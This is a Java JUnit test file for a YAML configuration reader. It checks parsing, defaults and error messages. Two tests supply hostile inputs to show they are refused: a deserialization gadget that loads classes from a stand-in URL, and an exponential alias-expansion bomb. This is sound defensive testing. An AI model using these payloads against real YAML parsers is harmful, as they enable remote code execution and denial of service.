package dev.livedoctor.ruleset;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.livedoctor.diagnosis.Severity;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class YamlValueTest {
    private final List<Complaint> complaints = new ArrayList<>();

    private YamlValue read(String text) {
        return YamlValue.read("f.yaml", text, complaints);
    }

    private String complaint() {
        assertEquals(1, complaints.size(), complaints.toString());
        return complaints.get(0).toString();
    }

    @Test
    void readsWhatIsThere() {
        YamlValue value = read("a: text\nb: 2.5\nc: true\nd: [x, y]\ne: {f: 1}\ng: major\n");

        assertEquals("text", value.at("a").text());
        assertEquals(2.5, value.at("b").number());
        assertTrue(value.at("c").flag());
        assertEquals(List.of("x", "y"), value.at("d").texts());
        assertEquals(1, value.at("e").at("f").number());
        assertEquals(Severity.MAJOR, value.at("g").constant(Severity.class));
        assertEquals(
                List.of("a", "b", "c", "d", "e", "g"),
                List.copyOf(value.fields().keySet()));
        assertEquals(List.of(), complaints);
    }

    @Test
    void whatIsAbsentHasItsDefault() {
        YamlValue value = read("a: 1");

        assertFalse(value.at("b").present());
        assertEquals("x", value.at("b").text("x"));
        assertEquals(7, value.at("b").number(7));
        assertEquals(List.of(), value.at("b").items());
        assertEquals(List.of(), complaints);
    }

    @Test
    void whatIsMissingIsMissedWhereItWouldStand() {
        read("a: 1\nb:\n  c: 2\n").at("b").at("d").text();

        assertEquals("f.yaml:3:3: 'd' is missing here. Maybe a line for it? [missing-value]", complaint());
    }

    @Test
    void aKeyStandsOnce() {
        YamlValue value = read("a: 1\nb: 2\na: 3\n");
        value.allow("a", "b");
        value.at("a").number();

        assertEquals("f.yaml:3:1: a stands twice: in line 1, too. Maybe one of them? [duplicate-key]", complaint());
    }

    @Test
    void aKeyIsKnown() {
        read("a: 1\n\nbb: 2\n").allow("a", "b");

        assertEquals("f.yaml:3:1: 'bb' is not known here. Maybe b? [unknown-key]", complaint());
    }

    @ParameterizedTest
    @CsvSource({"3, 3", "-3.5, -3.5", "+1, 1", ".5, 0.5", "5., 5", "1e3, 1000", "2.5E-3, 0.0025", "007, 7"})
    void readsNumbers(String text, double number) {
        assertEquals(number, read("a: " + text).at("a").number());
        assertEquals(List.of(), complaints);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "1d",
                "1f",
                "0x10",
                "0x1p3",
                "NaN",
                ".nan",
                ".inf",
                "Infinity",
                "1_000",
                "1,5",
                "5 ms",
                "1e999",
                "x",
                "[1]",
                "{b: 1}",
                "''"
            })
    void refusesWhatIsNoNumber(String text) {
        assertTrue(Double.isNaN(read("\na: " + text).at("a").number()));

        assertTrue(complaint().startsWith("f.yaml:2:4: a number expected for 'a', not '"), complaint());
    }

    @ParameterizedTest
    @CsvSource(
            quoteCharacter = '"',
            value = {
                "yes, true",
                "no, false",
                "on, true",
                "NO, false",
                "1, true",
                "'true', true",
                "flase, false",
                "x, true or false"
            })
    void aFlagIsTrueOrFalse(String text, String meant) {
        read("a: " + text).at("a").flag();

        assertEquals("f.yaml:1:4: true or false expected for 'a'. Maybe " + meant + "? [wrong-type]", complaint());
    }

    @Test
    void norwayIsNoFlag() {
        assertEquals("NO", read("a: NO").at("a").scalar());
        assertEquals("on", read("a: on").at("a").scalar());
        assertEquals(true, read("a: True").at("a").scalar());
        assertEquals(3.0, read("a: 3").at("a").scalar());
        assertEquals("3", read("a: '3'").at("a").scalar());
        assertEquals(List.of(), complaints);
    }

    @Test
    void whatHasAnotherShapeIsComplainedOfAndHarmless() {
        YamlValue value = read("a: [1]\nb: x\nc: {d: 1}\n");

        assertEquals("", value.at("a").text());
        assertEquals(List.of(), value.at("b").items());
        assertFalse(value.at("b").at("deeper").present());
        assertEquals(List.of(), value.at("c").items());
        assertEquals(
                List.of(1, 2, 2, 3), complaints.stream().map(Complaint::line).toList());
    }

    @Test
    void oneComplaintIsEnough() {
        YamlValue value = read("a: x");
        value.at("a").number();
        value.at("a").number();

        complaint();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"a: [", "a: b: c", "a: \"x", "\ta: 1", "a: 1\n---\nb: 2", "a: &x 1\nb: *y", "a: !<", "a: \u0000"
            })
    void whatIsNoYamlIsComplainedOf(String text) {
        read(text);

        assertTrue(complaint().contains("cannot be read as YAML"), complaint());
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "# nothing\n"})
    void anEmptyFileHasNothing(String text) {
        assertEquals("", read(text).at("a").text());

        complaint();
    }

    @Test
    void tagsMakeNoObjects() {
        read("a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x/']]]]");

        assertTrue(complaint().contains("tags are not allowed"), complaint());
    }

    @Test
    void bombsDoNotGoOff() {
        StringBuilder bomb = new StringBuilder("a0: &a0 [x]\n");
        for (int i = 1; i < 30; i++) {
            bomb.append("a%d: &a%d [*a%d, *a%d, *a%d]\n".formatted(i, i, i - 1, i - 1, i - 1));
        }
        assertTimeoutPreemptively(Duration.ofSeconds(5), () -> read(bomb.toString()));

        assertTrue(complaint().contains("aliases"), complaint());
    }

    @Test
    void deepNestingIsRefused() {
        assertTimeoutPreemptively(Duration.ofSeconds(5), () -> read("[".repeat(100_000)));

        assertTrue(complaint().contains("cannot be read as YAML"), complaint());
    }

    @Test
    void hugeFilesAreRefused() {
        assertTimeoutPreemptively(Duration.ofSeconds(5), () -> read("a: " + "x".repeat(1_100_000)));

        assertTrue(complaint().contains("cannot be read as YAML"), complaint());
    }
}
